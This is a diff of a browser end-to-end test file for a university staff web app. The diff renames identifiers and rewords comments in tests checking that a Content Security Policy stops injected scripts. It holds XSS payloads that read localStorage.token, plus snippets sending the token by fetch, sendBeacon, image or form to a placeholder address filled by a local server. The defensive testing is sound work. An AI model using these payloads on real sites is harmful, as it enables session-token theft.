@@ -9,15 +9,15 @@ import { enter, signInByCall } from './sign-in.ts'
 import { newStaffMember, type StaffMember } from './staff.ts'
 import { textsIn } from './texts.ts'
 
-/** What a script that runs leaves behind: the token that it has reached. */
+/** Trace of an executed script: the token that it reached. */
 const planted = (page: Page) => page.evaluate<unknown>('globalThis.planted')
 const WORDS = `Planted<img src=x onerror="globalThis.planted=localStorage.token"><script>globalThis.planted=localStorage.token</script>`
 
-/** A place of the list of universities that no other journey takes. */
-const PLACE = 31
+/** A university of the list that no other journey uses. */
+const OFFICE_INDEX = 31
 
-test('a script in every free text is words to whoever reads it', async ({ browser, baseURL }) => {
-  const { universityId, head, applicationIds, applicants } = await makeOffice(baseURL, PLACE, 10)
+test('a script in every free text is plain text for its readers', async ({ browser, baseURL }) => {
+  const { universityId, head, applicationIds, applicants } = await makeOffice(baseURL, OFFICE_INDEX, 10)
   const [id = ''] = applicationIds
   const root = await staffCalls(baseURL, SUPER_ADMIN)
   const inspector: StaffMember = { ...newStaffMember('Planted'), fullName: `${WORDS}` }
@@ -27,9 +27,9 @@ test('a script in every free text is words to whoever reads it', async ({ browse
   await office.post(`/staff/request/${id}/notes`, { text: WORDS })
   const manager = await staffCalls(baseURL, inspector)
   await manager.post(`/staff/request/inspector/update/status/${id}`, { status: 'FAILED', comment: WORDS })
-  const said = { descriptionKz: WORDS, descriptionRu: WORDS, descriptionEn: WORDS }
+  const texts = { descriptionKz: WORDS, descriptionRu: WORDS, descriptionEn: WORDS }
   const { version } = (await office.get('/university/profile')).data
-  await office.post('/university/edit', { tab: 'description', version, ...said })
+  await office.post('/university/edit', { tab: 'description', version, ...texts })
   const titles = { newsTitleKz: WORDS, newsTitleRu: WORDS, newsTitleEn: WORDS }
   const today = new Date(Date.now() + 5 * 3_600_000).toISOString().slice(0, 10)
   const body = `${WORDS}\n\n[link](javascript:globalThis.planted=1) ![x](x" onerror="globalThis.planted=1)`
@@ -62,7 +62,7 @@ test('a script in every free text is words to whoever reads it', async ({ browse
   expect(applicants.length).toBeGreaterThan(0)
 })
 
-/** What somebody could try who has got a text of theirs into a page as code of ours would put it there. */
+/** Attempts of an attacker whose text became code in a page. */
 const ATTEMPTS: Readonly<Record<string, string>> = {
   'markup with a handler': `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="globalThis.planted=localStorage.token">')`,
   'markup through a property': `const box = document.createElement('div'); document.body.append(box); box.innerHTML = '<img src="data:," onerror="globalThis.planted=localStorage.token">'`,
@@ -79,7 +79,7 @@ const ATTEMPTS: Readonly<Record<string, string>> = {
   'a link with a script': `const link = document.createElement('a'); link.href = 'javascript:globalThis.planted=localStorage.token;void 0'; document.body.append(link); link.click()`,
 }
 
-/** Somebody signed in, before a page that reports nothing as a fault of its own. */
+/** A signed-in page whose own errors do not fail the test. */
 async function signedIn(browser: Browser, person: StaffMember, bypassCSP: boolean): Promise<Page> {
   const page = await (await browser.newContext({ bypassCSP })).newPage()
   await signInByCall({ page, t: textsIn('en'), language: 'en' }, 'STAFF', person)
@@ -88,24 +88,21 @@ async function signedIn(browser: Browser, person: StaffMember, bypassCSP: boolea
   return page
 }
 
-/** Tries it as the page's own code would; an evaluation itself may do more than a page. */
+/** Runs the code as the page's own would: an evaluation itself has more rights than a page. */
 async function attempt(page: Page, code: string): Promise<void> {
   await page.evaluate<undefined>(`void setTimeout(() => { try { ${code} } catch {} })`)
   await page.waitForTimeout(150)
 }
 
-test('a script that has got into a page neither runs nor reaches the token; without the policy it would', async ({
-  browser,
-  baseURL,
-}) => {
+test('only the policy keeps a script in a page from running and reaching the token', async ({ browser, baseURL }) => {
   const root = await staffCalls(baseURL, SUPER_ADMIN)
   const person = newStaffMember('Attacked')
   await root.post('/staff', { ...person, roles: [{ name: 'MANAGER' }] })
   for (const [what, code] of Object.entries(ATTEMPTS)) {
-    const kept = await signedIn(browser, person, false)
-    await attempt(kept, code)
-    expect(await planted(kept), what).toBeUndefined()
-    await kept.context().close()
+    const guarded = await signedIn(browser, person, false)
+    await attempt(guarded, code)
+    expect(await planted(guarded), what).toBeUndefined()
+    await guarded.context().close()
   }
   const open = await signedIn(browser, person, true)
   const ran: string[] = []
@@ -119,8 +116,8 @@ test('a script that has got into a page neither runs nor reaches the token; with
   await open.context().close()
 })
 
-/** What carries a token away, to an address that is filled in. */
-const WAYS_OUT: Readonly<Record<string, string>> = {
+/** Ways to send the token to an address, which is filled in. */
+const LEAKS: Readonly<Record<string, string>> = {
   fetch: `fetch('ELSEWHERE?' + localStorage.token)`,
   beacon: `navigator.sendBeacon('ELSEWHERE', localStorage.token)`,
   picture: `new Image().src = 'ELSEWHERE?' + localStorage.token`,
@@ -128,30 +125,30 @@ const WAYS_OUT: Readonly<Record<string, string>> = {
   form: `const form = document.createElement('form'); form.action = 'ELSEWHERE'; form.method = 'post'; document.body.append(form); form.submit()`,
 }
 
-test('nothing of the token leaves for elsewhere; without the policy it would', async ({ browser, baseURL }) => {
+test('only the policy keeps the token from being sent elsewhere', async ({ browser, baseURL }) => {
   const root = await staffCalls(baseURL, SUPER_ADMIN)
   const person = newStaffMember('Attacked')
   await root.post('/staff', { ...person, roles: [{ name: 'MANAGER' }] })
-  let arrived = 0
+  let received = 0
   const elsewhere = createServer((_request, response) => {
-    arrived += 1
+    received += 1
     response.end()
   }).listen(0, '127.0.0.1')
   await once(elsewhere, 'listening')
   const address = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`
-  const arrivedBy = async (bypassCSP: boolean): Promise<string[]> => {
-    const ways: string[] = []
+  const receivedBy = async (bypassCSP: boolean): Promise<string[]> => {
+    const leaks: string[] = []
     const page = await signedIn(browser, person, bypassCSP)
-    for (const [way, code] of Object.entries(WAYS_OUT)) {
-      arrived = 0
+    for (const [name, code] of Object.entries(LEAKS)) {
+      received = 0
       await attempt(page, code.replace('ELSEWHERE', address))
-      for (let waits = 0; bypassCSP && arrived === 0 && waits < 20; waits += 1) await page.waitForTimeout(100)
-      if (arrived > 0) ways.push(way)
+      for (let waits = 0; bypassCSP && received === 0 && waits < 20; waits += 1) await page.waitForTimeout(100)
+      if (received > 0) leaks.push(name)
     }
     await page.context().close()
-    return ways
+    return leaks
   }
-  expect(await arrivedBy(false)).toEqual([])
-  expect(await arrivedBy(true)).toEqual(Object.keys(WAYS_OUT))
+  expect(await receivedBy(false)).toEqual([])
+  expect(await receivedBy(true)).toEqual(Object.keys(LEAKS))
   elsewhere.close()
 })
